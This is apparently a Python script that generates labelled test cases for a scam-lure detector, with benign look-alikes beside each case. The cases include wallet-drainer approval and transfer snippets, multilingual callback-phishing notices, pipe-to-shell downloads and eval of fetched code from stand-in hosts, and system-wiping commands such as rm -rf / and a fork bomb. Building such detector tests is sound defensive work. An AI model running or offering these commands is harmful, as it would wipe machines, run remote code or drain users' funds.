"""Writes tests/data/cases/b10lures.jsonl: the lure techniques BLIND-10 found weak (issue 9),
closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b10lures.py

Deterministic (every variant is a product of fixed lists). Hosts are reserved names (.example,
.test, .invalid, documentation IP ranges) or the real makers' own; wallet addresses are made up
(0x5555…), phone numbers are in 555 blocks. No text is copied from a lure collection, another
detector's fixtures or the blind sets. Each line is {id, text, expect, technique, platform[,
source], target}.

Techniques:

- `console-wallet-grant`: a wallet drainer's console line: the call that gives a stranger your
  tokens or NFTs with the stranger's address written in the snippet, through a contract object
  (ethers, web3, viem-like), not the wallet's raw request: an approval for all of a collection,
  an allowance that is not zero (unlimited or a balance), increaseAllowance, transferFrom /
  safeTransferFrom / a token transfer to a written address, a transaction sent through a
  signer, a permit signed through signTypedData, a Solana transfer or SPL authority change to a
  written key. Look-alikes: a contract's ABI, Solidity source, tests and dApp code that pass the
  spender as a variable, revokes (false, 0), reads (allowance, balanceOf, ownerOf) of a written
  address, the local test chains' default accounts.
- `callback-13`: callback phishing notices in the thirteen languages of scam13 that it still
  missed: a renewal "cancel? call within 48 hours", a paid order "if you did not place this
  order, call the refunds department", an exchange withdrawal "if it was not you, call our
  security team". Look-alikes: genuine receipts and renewals with a support number and no push
  to call about the charge (questions, delivery, cancel in the app or the account).
- `driver-codec-page`: a download-and-run from a site named for getting a device's driver or a
  player's codec (realtek-wifi-drivers, hevc-codec-pack) whose script comes from a host sharing
  nothing with it. Look-alikes: such a site serving its own script, a maker's one-word domain
  with a drivers path, a tutorial site about drivers, a known installer quoted there.
- `console-indirect-eval`: fetched text run through eval called indirectly ((0,eval),
  window.eval, new Function on one awaited fetch), and a module imported from another site
  inside an HTML string. Look-alikes: fetched text logged or shown, a relative request.
- `wipe-system`: a "fix" or prank that erases the computer: rm -rf of /, ~, $HOME or a system
  folder (any flag order, --no-preserve-root), the fork bomb, chmod/chown -R of /, Windows' drive,
  Windows or System32 removed (rd /s /q, del /s /q, Remove-Item -Recurse, format c:).
  Look-alikes: a build folder, node_modules, caches and a tool's own folder removed, a path under
  /tmp or /usr/local, permissions of a web root, the same commands inside a container.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b10l")
add = book.add

# ---- console-wallet-grant ------------------------------------------------------------------
A = "0x5555000000000000000000000000000000{:06d}"
PAGES = [
    "https://nft-claim.example/mint",
    "https://airdrop-rewards.test/claim",
    "https://wallet-repair.invalid/fix",
]
GRANTS = [
    "contract.setApprovalForAll('{a}', true)",
    'await nft.setApprovalForAll("{a}", true);',
    "const c = new ethers.Contract('{b}', ['function setApprovalForAll(address,bool)'], signer); await c.setApprovalForAll('{a}', true)",
    "await usdt.approve('{a}', ethers.MaxUint256)",
    "await token.approve('{a}', '0xffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff')",
    'await weth.approve("{a}", await weth.balanceOf(await signer.getAddress()))',
    "const spender = '{a}'; await usdc.approve(spender, ethers.constants.MaxUint256)",
    "await dai.increaseAllowance('{a}', ethers.parseUnits('1000000', 18))",
    "await nft.transferFrom(await signer.getAddress(), '{a}', 7)",
    "await collection.safeTransferFrom(me, '{a}', 1042)",
    "await usdc.transfer('{a}', await usdc.balanceOf(me))",
    "const s = await new ethers.BrowserProvider(window.ethereum).getSigner(); await s.sendTransaction({{ to: '{a}', value: ethers.parseEther('3') }})",
    "web3.eth.sendTransaction({{from: accounts[0], to: '{a}', value: web3.utils.toWei('2', 'ether')}})",
    "const sig = await signer.signTypedData(domain, {{Permit: types}}, {{owner: me, spender: '{a}', value: MAX, nonce: 0, deadline: 9999999999}})",
    "new web3.eth.Contract(abi, '{b}').methods.setApprovalForAll('{a}', true).send({{from: accounts[0]}})",
    "const tx = new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({{fromPubkey: solana.publicKey, toPubkey: new solanaWeb3.PublicKey('5555kPxVbQkS4mNnRrTtUuWwXxYyZz1111222233334'), lamports: 5e9}})); await solana.signAndSendTransaction(tx)",
]
for i, tmpl in enumerate(GRANTS):
    text = tmpl.format(a=A.format(1000 + i), b=A.format(9000 + i))
    add("console-wallet-grant", text, "malicious", "browser", "browser_console", PAGES[i % 3])
    if i % 2 == 0:
        add("console-wallet-grant", text, "flagged", "browser", "unknown")
WALLET_CALM = [
    # ABIs, Solidity source, tests and dApp code with the spender a variable
    '["function setApprovalForAll(address operator, bool approved)", "function approve(address spender, uint256 amount) returns (bool)"]',
    "function setApprovalForAll(address operator, bool approved) public virtual override { _setApprovalForAll(_msgSender(), operator, approved); }",
    "await nft.connect(owner).setApprovalForAll(marketplace.address, true);",
    "const tx = await token.approve(router.address, ethers.MaxUint256); await tx.wait();",
    "await expect(token.transferFrom(alice.address, bob.address, 100)).to.be.reverted;",
    # revokes
    "await nft.setApprovalForAll('0x5555000000000000000000000000000000004242', false)",
    "await usdt.approve('0x5555000000000000000000000000000000004242', 0)",
    # reads of a written address
    "const allowance = await token.allowance(me, '0x5555000000000000000000000000000000004242')",
    "console.log(await usdc.balanceOf('0x5555000000000000000000000000000000004242'))",
    "await nft.isApprovedForAll(me, '0x5555000000000000000000000000000000004242')",
    # the local test chains' default accounts
    "await token.approve('0x70997970C51812dc3A010C7d01b50e0d17dc79C8', ethers.parseEther('100'))",
    "await nft.transferFrom('0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266', '0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC', 1)",
]
for i, text in enumerate(WALLET_CALM):
    add("console-wallet-grant", text, "not_flagged", "browser", "other" if i % 2 else "unknown")
# a test chain's account written beside the stranger's grant excuses nothing (fuzz10): in a
# comment, in a revoke, in a string, in a const; only a snippet whose every address is a test
# account (Hardhat, Anvil, Ganache, or the contracts they deploy first) is a developer's test
HARDHAT = [
    "0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266",
    "0x70997970C51812dc3A010C7d01b50e0d17dc79C8",
]
BESIDE_TEST = [
    "contract.setApprovalForAll('{a}', true) // deployed with {h}",
    "await usdt.approve('{h}', 0); await nft.setApprovalForAll('{a}', true)",
    "const note = 'test account {h}'; await usdt.approve('{a}', ethers.MaxUint256)",
    "const DEV = '{h}';\nconst OP = '{a}';\nawait nft.setApprovalForAll(OP, true)",
    "/* anvil {h} */ await nft.safeTransferFrom(await signer.getAddress(), '{a}', 1042)",
    "await usdc.transfer('{a}', await usdc.balanceOf(me)); // ganache 0x90F8bf6A479f320ead074411a4b0e7944Ea8c9C1",
    "await token.approve('{h}', 1); await token.increaseAllowance('{a}', ethers.MaxUint256)",
]
for i, tmpl in enumerate(BESIDE_TEST):
    text = tmpl.format(a=A.format(2000 + i), h=HARDHAT[i % 2])
    add("console-wallet-grant", text, "malicious", "browser", "browser_console", PAGES[i % 3])
    if i % 2 == 0:
        add("console-wallet-grant", text, "flagged", "browser", "unknown")
ONLY_TEST = [
    "const SPENDER = '0x70997970C51812dc3A010C7d01b50e0d17dc79C8';\nawait token.approve(SPENDER, ethers.MaxUint256);",
    "await nft.connect(owner).setApprovalForAll('0x3C44CdDdB6a900fa2b585dd299e03d12FA4293BC', true) // hardhat account #2",
    "// deployer 0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266\nawait usdc.transfer('0x90F79bf6EB2c4f870365E785982E1f101E93b906', 1000)",
    "web3.eth.sendTransaction({from: '0x90F8bf6A479f320ead074411a4b0e7944Ea8c9C1', to: '0xFFcf8FDEE72ac11b5c542428B35EEF5769C409f0', value: web3.utils.toWei('1', 'ether')})",
    "const token = await ethers.getContractAt('IERC20', '0x5FbDB2315678afecb367f032d93F642f64180aa3');\nawait token.approve('0x70997970C51812dc3A010C7d01b50e0d17dc79C8', ethers.parseEther('50'));",
    "await token.connect(alice).transferFrom('0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266', '0x15d34AAf54267DB7D7c367839AAf71A00a2C6A65', 5)",
]
for i, text in enumerate(ONLY_TEST):
    add("console-wallet-grant", text, "not_flagged", "browser", "other" if i % 2 else "unknown")

# ---- callback-13 ---------------------------------------------------------------------------
CALLBACK = [
    # renewal: cancel? call within hours
    "Thanks for renewing Norton 360 Deluxe. Amount: $349.99, debited today. Cancel? Call within 24 hours: +1 555 010 7788",
    "Gracias por renovar McAfee Total Protection. Importe: 349,99 €, se cargará hoy. ¿Cancelar? Llame en 48 horas: +34 91 555 0142",
    "Obrigado por renovar o Norton 360. Valor: R$ 749,00, debitado hoje. Cancelar? Ligue em até 48 horas: 0800 555 0142",
    "Bedankt voor uw verlenging van Norton Security.\nBedrag: € 249,99, wordt vandaag afgeschreven.\nAnnuleren? Bel binnen 24 uur: +31 20 555 0142",
    "Dziękujemy za odnowienie Norton 360. Kwota: 349,99 zł, pobrana dzisiaj. Anulować? Zadzwoń w ciągu 48 godzin: +48 22 555 01 42",
    "Norton 360 yenilemeniz için teşekkürler. Tutar: 1.299,00 TL, bugün hesabınızdan çekilecek. İptal için 48 saat içinde arayın: 0850 555 01 99",
    "Спасибо за продление Kaspersky Premium. Сумма: 4 999,00 ₽, будет списана сегодня. Отменить? Позвоните в течение 48 часов: 8 (800) 555-01-99",
    "ノートン360の更新ありがとうございます。金額：12,800円、本日引き落とされます。キャンセルしますか？48時間以内にお電話ください：0120-555-019",
    "感谢您续订诺顿360。金额：¥2,499.00，今日扣款。要取消吗？请在48小时内致电：400-555-0199",
    "شكرًا لتجديد اشتراك نورتون 360. المبلغ: 1,299.00 ريال، سيتم خصمه اليوم. للإلغاء اتصل خلال 48 ساعة: +966 11 555 0199",
    # paid order: if you did not place it, call the refunds department
    "Votre commande Fnac n° 55-1234 a été payée : 1 299,00 €. Si vous n'avez pas passé cette commande, appelez notre service remboursements : +33 1 55 55 01 42",
    "Su pedido de Microsoft Store n.º MS-55190 ha sido pagado: 1.299,00 €. Si no realizó este pedido, llame al departamento de reembolsos: +34 91 555 0142",
    "Seu pedido Mercado Livre nº 55-1234 foi pago: R$ 1.899,90. Se você não fez este pedido, ligue para o setor de reembolsos: (11) 5555-0173",
    "Uw bestelling bij Bol nr. 55-1234 is betaald: € 1.299,00. Heeft u deze bestelling niet geplaatst, bel dan onze afdeling terugbetalingen: +31 20 555 0142",
    "Zamówienie Allegro nr 55-1234 zostało opłacone: 2 499,00 zł.\nJeśli nie składałeś tego zamówienia, zadzwoń do działu zwrotów: +48 22 555 01 99",
    "Trendyol siparişiniz no 55-1234 ödendi: 4.299,00 TL. Bu siparişi siz vermediyseniz iade departmanımızı arayın: +90 212 555 01 42",
    # withdrawal: if it was not you, call our security team
    "Binance: se ha solicitado una retirada de 0,62 BTC de su cuenta.\nSi no ha sido usted, llame inmediatamente a nuestro equipo de seguridad: +34 91 555 0142",
    "Kraken: Eine Auszahlung von 0,51 BTC wurde angefordert. Wenn Sie das nicht waren, rufen Sie sofort unser Sicherheitsteam an: +49 30 5555 0142",
    "Bitvavo: er is een opname van 0,84 BTC aangevraagd vanaf uw rekening. Was u dit niet, bel dan direct ons beveiligingsteam: +31 20 555 0142",
    "Coinbase: a withdrawal of 0.62 BTC was requested from your account. If it wasn't you, call our security team immediately: +1 555 010 7788",
]
for i, text in enumerate(CALLBACK):
    add(
        "callback-13",
        text,
        "flagged",
        "any",
        "unknown" if i % 2 else "other",
        None if i % 3 else "https://mail.example.org/inbox",
    )
CALLBACK_CALM = [
    "Thanks for renewing Norton 360 Deluxe. Amount: $49.99, charged today. You can turn off auto-renewal any time in your account settings. Questions? Call +1 555 010 7788",
    "Your order #55-1234 has been paid: $124.00. It ships within 48 hours. Questions about delivery? Call us at (555) 010-3344, Mon-Fri 9-17.",
    "Vielen Dank für Ihre Bestellung. Betrag: 29,99 € wurde heute abgebucht. Fragen? Rufen Sie uns an: 0800 555 0199",
    "Merci pour votre commande, payée : 49,00 €. Une question ? Appelez le service client au 01 55 55 01 99 (du lundi au vendredi).",
    "Su pedido ha sido pagado: 49,99 €. Se entregará hoy. ¿Dudas? Llame a atención al cliente: 91 555 01 99",
    "Gracias por renovar su suscripción: 9,99 € al mes. Puede cancelar cuando quiera en la app. Atención al cliente: +34 91 555 0142",
    "Seu pedido foi pago: R$ 149,90. Entrega hoje. Dúvidas? Ligue para a central de atendimento: (11) 5555-0173",
    "Uw bestelling is betaald: € 49,99. Wordt vandaag verzonden. Vragen? Bel onze klantenservice: 020-555 0199",
    "Uw abonnement is verlengd: € 12,99 per maand, vandaag afgeschreven. Opzeggen kan altijd in de app. Klantenservice: 020-555 0199",
    "Dziękujemy za zamówienie, zostało opłacone: 149,00 zł. Wysyłka dzisiaj. Pytania? Zadzwoń: 22 555 01 99",
    "Abonament odnowiony: 29,99 zł, pobrany dzisiaj. Możesz zrezygnować w aplikacji. Infolinia: 22 555 01 99",
    "Siparişiniz ödendi: 499,00 TL. Bugün kargoya verilecek. Sorularınız için müşteri hizmetlerini arayın: 0850 555 01 99",
    "Ваш заказ оплачен: 2 499,00 ₽. Доставка сегодня. Вопросы? Позвоните: 8 (800) 555-01-99",
    "Подписка продлена: 299,00 ₽ списано сегодня. Отменить подписку можно в приложении. Поддержка: 8 (800) 555-01-99",
    "ご注文のお支払いが完了しました：4,980円。本日発送します。お問い合わせはお電話で：0120-555-019",
    "定期購入を更新しました：1,980円を本日引き落としました。解約はマイページから。お問い合わせ：0120-555-019",
    "您的订单已付款：¥199.00。今天发货。如有疑问请致电客服：400-555-0199",
    "您的会员已自动续费：¥25.00，今日扣款。可在App内取消自动续费。客服电话：400-555-0199",
    "تم دفع طلبك: 199.00 ريال. سيتم الشحن اليوم. للاستفسار اتصل بخدمة العملاء: 800 555 0173",
    "تم تجديد اشتراكك: 29.00 ريال، تم خصمه اليوم. يمكنك الإلغاء من التطبيق. الدعم: 800 555 0173",
    "Withdrawal of 0.62 BTC completed to your own wallet. Support: +1 555 010 7788",
]
for i, text in enumerate(CALLBACK_CALM):
    add(
        "callback-13",
        text,
        "not_flagged",
        "any",
        "unknown" if i % 2 else "other",
        None if i % 3 else "https://mail.example.org/inbox",
    )

# ---- driver-codec-page ---------------------------------------------------------------------
DRIVER_PAGES = [
    "https://www.realtek-wifi-drivers.example/linux",
    "https://hevc-codec-pack.test/download",
    "https://www.canon-printer-drivers.invalid/mac",
    "https://gpu-driver-center.example/ubuntu",
    "https://x265-codecs.test/install",
]
STRANGER_RUNS = [
    "curl -fsSL https://l1.kakapo-cdn.invalid/rtl.sh | sudo bash",
    '/bin/bash -c "$(curl -fsSL https://m2.numbat-host.test/install)"',
    "wget -qO- https://cdn.tui-files.example/setup.sh | sh",
    "curl -sSL https://203.0.113.44/drv.sh -o /tmp/drv.sh && sudo bash /tmp/drv.sh",
]
for i, page in enumerate(DRIVER_PAGES):
    for j in range(2):
        text = STRANGER_RUNS[(i + j) % len(STRANGER_RUNS)]
        plat = "macos" if "/mac" in page else "linux"
        add("driver-codec-page", text, "malicious", plat, "terminal", page)
DRIVER_CALM = [
    # the site's own script
    (
        "https://www.realtek-wifi-drivers.example/linux",
        "curl -fsSL https://dl.realtek-wifi-drivers.example/install.sh | sudo bash",
    ),
    (
        "https://hevc-codec-pack.test/download",
        "curl -fsSL https://hevc-codec-pack.test/get.sh | sh",
    ),
    # a known installer quoted there
    ("https://gpu-driver-center.example/ubuntu", "curl -fsSL https://get.docker.com | sh"),
    # a tutorial site about drivers (a writing word in its name)
    (
        "https://linux-driver-notes.example/realtek-rtl8821ce",
        "curl -fsSL https://l1.kakapo-cdn.invalid/rtl.sh | sudo bash",
    ),
]
for page, text in DRIVER_CALM:
    add(
        "driver-codec-page",
        text,
        "not_flagged" if "kakapo" not in text else "suspicious",
        "linux",
        "terminal",
        page,
    )
# the same stranger's script from a tutorial about software, and bare: a warning, as before
add(
    "driver-codec-page",
    STRANGER_RUNS[0],
    "suspicious",
    "linux",
    "terminal",
    "https://www.linux-tips.example/blog/post-1234",
)
add("driver-codec-page", STRANGER_RUNS[0], "suspicious", "linux", "terminal")

# ---- console-indirect-eval -----------------------------------------------------------------
EVAL_URLS = [
    "https://x.kokako-cdn.test/p",
    "https://203.0.113.61/c.js",
    "https://cdn.claim-fast.invalid/s",
]
EVALS = [
    "(0,eval)(await fetch('{u}').then(r=>r.text()))",
    "(0, eval)(await (await fetch('{u}')).text())",
    'window.eval(await fetch("{u}").then(function(r){{return r.text()}}))',
    "globalThis.eval(await fetch(`{u}`).then(r => r.text()))",
    "new Function(await fetch('{u}').then(r => r.text()))()",
    "document.head.insertAdjacentHTML('beforeend','<img src=x onerror=\"import(\\'{u}\\')\">')",
    "document.body.innerHTML += '<img src=1 onerror=\"import(\\'{u}\\')\">'",
]
for i, tmpl in enumerate(EVALS):
    text = tmpl.replace("{{", "{").replace("}}", "}").replace("{u}", EVAL_URLS[i % 3])
    add("console-indirect-eval", text, "malicious", "browser", "browser_console", PAGES[i % 3])
    add("console-indirect-eval", text, "flagged", "browser", "unknown")
EVAL_CALM = [
    "const t = await fetch('https://api.example.com/v1/me').then(r => r.text()); console.log(t)",
    "document.getElementById('out').textContent = await fetch('/notes.txt').then(r => r.text())",
    "(0, console.log)(await fetch('https://api.example.com/v1/ping').then(r => r.status))",
    "const mod = await import('./local-module.js'); mod.init()",
    "el.insertAdjacentHTML('beforeend', '<img src=\"/static/logo.png\" alt=\"logo\">')",
]
for i, text in enumerate(EVAL_CALM):
    add(
        "console-indirect-eval",
        text,
        "not_flagged",
        "browser",
        "browser_console",
        "https://developer.example.com/docs/api" if i % 2 else None,
    )

# ---- wipe-system ---------------------------------------------------------------------------
WIPES = [
    "sudo rm -rf / --no-preserve-root",
    "sudo rm -rf --no-preserve-root /",
    "rm -rf ~",
    "rm -fr ~/*",
    "sudo rm -r -f /usr",
    'rm -rf "$HOME"',
    "sudo rm --recursive --force /etc",
    ":(){ :|:& };:",
    "sudo chmod -R 777 /",
    "sudo chown -R nobody /",
    "rm -rf /System /Library",
    "cmd /c rd /s /q C:\\Windows\\System32",
    "cmd /c del /f /s /q C:\\*.*",
    "Remove-Item -Path C:\\Windows\\System32 -Recurse -Force",
    "format c: /q /y",
]
WIPE_PAGES = [
    "https://steam-lag-fix.example/linux",
    "https://free-robux.test/boost",
    "https://speed-tips.invalid/faster-pc",
]
for i, text in enumerate(WIPES):
    win = "C:" in text or "c:" in text
    add(
        "wipe-system",
        text,
        "malicious",
        "windows" if win else "linux",
        "run_dialog" if win and i % 2 else "terminal",
        WIPE_PAGES[i % 3],
    )
    if i % 2 == 0:
        add("wipe-system", text, "malicious", "windows" if win else "linux", "terminal")
WIPE_CALM = [
    "rm -rf ./build",
    "rm -rf node_modules && npm install",
    "sudo rm -rf /tmp/build-*",
    "rm -rf ~/.cache/pip",
    "sudo rm -rf /usr/local/go && sudo tar -C /usr/local -xzf go1.22.linux-amd64.tar.gz",
    'rm -rf "$HOME/.oh-my-zsh"',
    "sudo chmod -R 755 /var/www/html",
    "sudo chown -R $USER:$USER /opt/app",
    'docker run --rm -it alpine sh -c "rm -rf /tmp/*"',
    "sudo rm -rf /var/lib/apt/lists/*",
    "rm -rf ~/Library/Caches/com.example.app",
    "del /s /q C:\\Users\\me\\Downloads\\*.tmp",
    "rd /s /q C:\\Users\\me\\AppData\\Local\\Temp\\build",
    "Remove-Item -Recurse -Force .\\dist",
]
for i, text in enumerate(WIPE_CALM):
    add(
        "wipe-system",
        text,
        "not_flagged",
        "any",
        "terminal",
        "https://docs.example.org/cleanup" if i % 2 else None,
    )

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b10lures.jsonl"), CASES)
